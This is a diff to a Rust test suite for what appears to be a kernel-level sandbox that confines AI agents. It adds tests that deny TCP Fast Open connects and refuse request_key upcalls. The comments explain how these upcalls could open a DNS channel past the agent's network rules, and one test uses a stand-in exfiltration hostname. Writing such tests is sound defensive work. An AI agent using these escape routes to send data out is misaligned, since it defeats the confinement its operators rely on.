@@ -474,6 +474,19 @@ fn network_cases() {
         Kind::Connect,
         Control::Succeeds,
     );
+    // TCP Fast Open: the connect happens inside sendto(MSG_FASTOPEN), never through connect(2);
+    // the kernel still runs the connect hook (__inet_stream_connect's pre_connect).
+    let ev = deny(
+        &mut k,
+        &fx,
+        "16 TCP Fast Open sendto to another local service",
+        &Attempt::FastOpen {
+            addr: v4([127, 0, 0, 1], port),
+        },
+        Kind::Connect,
+        Control::Succeeds,
+    );
+    assert_eq!(ev.port, port);
     // 13. Unconnected UDP to port 53; 14. connected UDP.
     let dns = v4([127, 0, 0, 53], 53);
     let ev = deny(
@@ -4045,4 +4058,62 @@ fn system_files_are_refused() {
         let _ = std::fs::remove_file(p);
     }
     let _ = std::fs::remove_dir("/gov-rt-src");
+}
+
+/// Issue 12, class 4 (others acting for the agent), by reading the kernel's usermode helpers:
+/// `request_key("dns_resolver", NAME)` makes the kernel run /sbin/key.dns_resolver outside
+/// every cgroup, which asks the node's resolver for NAME (a DNS channel past the agent's
+/// network rules); the NFS and CIFS key types are upcalls too. Keys of types not known to stay
+/// in the kernel are refused to agents where they are made (`key_alloc`). A type the kernel
+/// has not loaded yet needs its module first, which agents may not autoload: either guard
+/// refuses it. Local keys (`user`) still work in the agent.
+#[test]
+fn key_upcalls_are_refused() {
+    require_root();
+    let fx = Fixture::new("keys");
+    let mut k = fx.load("");
+    k.require("key_alloc");
+    let c = |s: &str| std::ffi::CString::new(s).unwrap();
+    // Every one is refused in the agent; the key guard itself refuses those the kernel has
+    // registered (at least one of them is built in), the module guard the others.
+    let mut by_key_guard = Vec::new();
+    for ty in [
+        "dns_resolver",
+        "fscrypt-provisioning",
+        "blacklist",
+        "id_resolver",
+    ] {
+        let case = format!("46 request_key {ty} (its construction runs outside the agent)");
+        let ev = deny(
+            &mut k,
+            &fx,
+            &case,
+            &Attempt::RequestKey {
+                ty: c(ty),
+                description: c("bin:exfiltrated.example.invalid"),
+            },
+            Kind::Guard,
+            Control::NotEperm,
+        );
+        match ev.detail {
+            governance_common::guard::KEY_UPCALL => by_key_guard.push(ty),
+            governance_common::guard::MODULE_REQUEST => {}
+            other => panic!("{case}: refused by guard {other}"),
+        }
+    }
+    assert!(
+        !by_key_guard.is_empty(),
+        "no registered key type was refused by the key guard"
+    );
+    println!("key types refused by the key guard: {by_key_guard:?}");
+    // Local keys stay the agent's.
+    let (_, outcome) = run_in(
+        Some(&fx.agent.path),
+        "agent",
+        &Attempt::AddKey {
+            ty: c("user"),
+            description: c("agent-key"),
+        },
+    );
+    assert_eq!(outcome, Outcome::Exited(0), "add_key(user) in the agent");
 }
